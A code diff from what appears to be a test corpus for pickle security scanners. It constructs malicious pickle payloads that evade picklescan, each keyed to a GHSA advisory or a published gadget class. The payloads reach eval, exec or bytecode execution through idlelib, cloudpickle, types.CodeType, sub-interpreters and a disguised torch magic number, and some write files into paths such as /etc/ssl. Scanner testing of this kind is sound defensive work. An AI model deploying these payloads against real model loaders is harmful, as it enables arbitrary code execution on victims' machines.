@@ -78,7 +78,7 @@ def ps_idlelib_autocomplete_fetch_completions() -> list[Advisory]:
     # picklescan GHSA-7cq8-mj8x-j263 (2025-08): AutoComplete.fetch_completions evals its argument.
     a = Asm(4)
     a.glob("idlelib.autocomplete", "AutoComplete.fetch_completions").mark()
-    a.raw(bare_obj(4, "idlelib.autocomplete", "AutoComplete").code).val(PY_SRC).val(1).tuple_().reduce()
+    a.raw(bare_obj(4, "idlelib.autocomplete", "AutoComplete").code).val(PY_SRC).val(0).tuple_().reduce()
     return adv(
         "ps_idlelib_autocomplete_fetch_completions",
         PS + "7cq8-mj8x-j263",
@@ -86,6 +86,7 @@ def ps_idlelib_autocomplete_fetch_completions() -> list[Advisory]:
         a.done(),
         "idlelib.autocomplete",
         "fetch_completions(what, mode) evaluates `what` to list attributes.",
+        live="pickle",
     )
 
 
@@ -102,6 +103,7 @@ def ps_idlelib_calltip_fetch_tip() -> list[Advisory]:
         a.done(),
         "idlelib.calltip",
         "Calltip.fetch_tip(expression) evaluates the expression.",
+        live="pickle",
     )
 
 
@@ -175,6 +177,7 @@ def ps_numpy_f2py_getlincoef() -> list[Advisory]:
         data,
         "numpy.f2py",
         "getlincoef(e, xset) evaluates e while solving a linear coefficient.",
+        live="pickle",
     )
 
 
@@ -289,6 +292,7 @@ def ps_cloudpickle_make_function() -> list[Advisory]:
         a.done(),
         "cloudpickle.cloudpickle._make_function",
         "cloudpickle's function rebuilders: a code object is built and called.",
+        live="pickle",
     )
 
 
@@ -307,6 +311,7 @@ def ps_types_codetype_function() -> list[Advisory]:
         a.done(),
         "types.CodeType",
         "FunctionType(CodeType(...), {})() runs bytecode carried in the pickle (Python-minor specific).",
+        live="pickle",
     )
 
 
@@ -350,6 +355,7 @@ def ps_py2_compile_eval_chain() -> list[Advisory]:
         a.done(),
         "builtins.eval",
         "eval(compile(src, '', 'exec'), globals()) in the Python 2 spelling.",
+        live="pickle",
     )
 
 
@@ -357,7 +363,7 @@ def ps_py2_compile_eval_chain() -> list[Advisory]:
 def ps_torch_magic_number_reduce() -> list[Advisory]:
     # picklescan GHSA-97f8-7cmv-76j2 (2026-02): legacy torch stream whose *magic number* pickle is itself
     # a REDUCE (the loader unpickles it before comparing), so a scanner that expects an INT skips it.
-    magic = call_pickle("builtins", "eval", "0x1950a86a20f9469cfc6c or " + PY_SRC, proto=2)
+    magic = call_pickle("builtins", "eval", "(" + PY_SRC + ", 0x1950a86a20f9469cfc6c)[1]", proto=2)
     rest = Asm(2).int_(1001).done() + Asm(2).val({"protocol_version": 1001}).done()
     return adv(
         "ps_torch_magic_number_reduce",
@@ -367,6 +373,7 @@ def ps_torch_magic_number_reduce() -> list[Advisory]:
         "builtins.eval",
         "The magic-number pickle is a call; torch.load unpickles it first.",
         filename="pytorch_model.bin",
+        live="torch",
     )
 
 
@@ -385,6 +392,7 @@ def fk_subinterpreter_run_string() -> list[Advisory]:
             a.done(),
             mod,
             f"{mod}.run_string(create(), src) ({when}): exec in a sub-interpreter.",
+            live="pickle",
         )
     return out
 
@@ -494,6 +502,7 @@ def fk_sqlite3_private() -> list[Advisory]:
         call_pickle("_sqlite3", "connect", REL_MARKER),
         "_sqlite3",
         "Private sqlite3 module: connect() creates a file at any path.",
+        live="pickle",
     )
 
 
@@ -533,7 +542,7 @@ def fk_unittest_mock_patch() -> list[Advisory]:
         "2026-01",
         call_pickle("unittest.mock", "_importer", "os"),
         "unittest",
-        "mock's importer walks a dotted path with __import__.",
+        "mock's importer (Python <= 3.10) walks a dotted path with __import__.",
     )
 
 
@@ -541,7 +550,8 @@ def fk_unittest_mock_patch() -> list[Advisory]:
 def builtins_loader_load_module() -> list[Advisory]:
     # Hide-and-Seek class "attribute walk through builtins" (2025-08): builtins.__loader__ is
     # BuiltinImporter; its load_module imports a built-in module (posix) without naming importlib.
-    a = Asm(0).global_("builtins", "__loader__.load_module").mark().unicode("posix").tuple_().reduce()
+    # Dotted names resolve only in protocol 4+ (find_class walks attributes for proto >= 4).
+    a = Asm(4).glob("builtins", "__loader__.load_module").val("posix").tuple1().reduce()
     return adv(
         "hs_builtins_loader_load_module",
         "arXiv:2508.19774 attribute walks",
@@ -780,7 +790,7 @@ def hs_stdlib_file_writers() -> list[Advisory]:
         "hs_zipapp_create_archive",
         "arXiv:2508.19774 file-write gadgets",
         "2025-08",
-        call_pickle("zipapp", "create_archive", "/tmp", REL_MARKER),
+        call_pickle("zipapp", "create_archive", "/etc/ssl", REL_MARKER, None, "os:getcwd"),
         "zipapp",
         "zipapp.create_archive(source, target) writes a zip at target.",
     )
